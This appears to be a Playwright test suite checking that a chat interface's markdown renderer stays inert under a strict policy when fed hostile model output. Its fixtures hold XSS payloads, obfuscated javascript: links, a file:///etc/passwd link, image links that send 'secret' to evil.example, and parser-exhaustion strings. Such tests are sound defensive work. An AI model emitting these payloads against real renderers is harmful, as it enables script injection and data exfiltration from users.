import { expect, type Page, test } from '@playwright/test';
import { startMockService, type MockService, strictPolicy } from './mock-service.ts';
import { asked, ended, event, everything, said, step } from './recorded-turns.ts';
import { enter } from './states.ts';

const hostile: Record<string, string> = {
  'raw HTML':
    '<script>location="https://evil.example"</script><img src=x onerror=alert(1)><iframe src="javascript:alert(1)"></iframe><svg onload=alert(1)><style>*{display:none}</style>\n\n<div onclick=alert(1)>x</div>',
  'obfuscated addresses':
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1)) [e](data:text/html,<script>alert(1)</script>) [f](vbscript:x) [g](\u0001javascript:alert(1)) [h](//evil.example) <javascript:alert(1)> [i](file:///etc/passwd) [j](blob:x)',
  'remote images':
    '![x](https://evil.example/?q=secret) ![](//evil.example/a.png) [![y](https://evil.example/b.png)](https://evil.example) ![z](data:image/svg+xml,<svg onload=alert(1)>) <img src="https://evil.example/c.png">',
  'reference links':
    '[a][ref] ![b][ref] [ref]\n\n[ref]: https://evil.example "t"\n[ref]: javascript:alert(1)',
  'deep nesting': `${'>'.repeat(2_000)} deep\n\n${'- '.repeat(1_000)}x\n\n${'*a_ '.repeat(2_000)}\n\n${'['.repeat(5_000)}${'![](('.repeat(1_000)}`,
  'huge tables': `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${`|${'b|'.repeat(50)}\n`.repeat(1_000)}`,
  'unclosed constructs': '**a __b *c ~~d `e [f](g ![h](i "j\n\n```js\nlet a = `${b}`;\n| a |\n|---\n> - 1. ',
  'bidi and combining characters': `\u202e${'e\u0301\u0316'.repeat(500)}\u2066 [\u202egro.elpmaxe](https://evil.example) \u{e0041}\u{e0042} ${'\u0300'.repeat(5_000)}`,
};

interface Report {
  violations: string[];
  errors: string[];
}

const watch = (page: Page) =>
  page.addInitScript(() => {
    const report: Report = { violations: [], errors: [] };
    Object.assign(globalThis, { report });
    addEventListener('securitypolicyviolation', (violation) =>
      report.violations.push(`${violation.violatedDirective} ${violation.blockedURI} ${violation.sample}`),
    );
    addEventListener('error', ({ message }) => report.errors.push(message));
    addEventListener('unhandledrejection', ({ reason }) => report.errors.push(String(reason)));
    globalThis.alert = () => report.errors.push('alert');
  });

const reported = (page: Page) => page.evaluate(() => (globalThis as unknown as { report: Report }).report);

async function onMockService(
  page: Page,
  events: Parameters<typeof startMockService>[0]['events'],
  run: (mock: MockService) => Promise<void>,
) {
  const mock = await startMockService({ events: events ?? [], page: strictPolicy });
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(mock.url)) foreign.push(request.url());
  });
  await watch(page);
  try {
    await run(mock);
    expect(page.url()).toBe(mock.url);
    expect(foreign).toEqual([]);
    const { violations, errors } = await reported(page);
    expect({ violations, errors }).toEqual({ violations: [], errors: [] });
  } finally {
    await mock.close();
  }
}

// No test needs another, and some take long.
test.describe.configure({ mode: 'parallel' });

for (const [name, text] of Object.entries({ ...hostile, 'well-meant text': everything }))
  test(`${name}, whole or written bit by bit, do nothing but show under a strict policy`, async ({
    page,
  }) => {
    const whole = [...asked(1, 'Hello'), ...said(1, text), ...said(1, '\n\nThe whole.'), ...ended(1)];
    await onMockService(page, [...whole, ...asked(2, 'Again')], async (mock) => {
      await enter(page, mock.url, { shows: 'The whole.' });
      // Character by character; the long ones in 2,000 pieces.
      const size = Math.ceil(text.length / 2_000);
      for (let at = 0; at < text.length; at += size)
        mock.write(event('message.appended', { ...step(2), messageDelta: text.slice(at, at + size) }));
      for (const each of [...said(2, text), ...said(2, 'The end.'), ...ended(2)]) mock.write(each);
      await expect(page.getByRole('log').getByText('The end.')).toBeVisible();
    });
  });
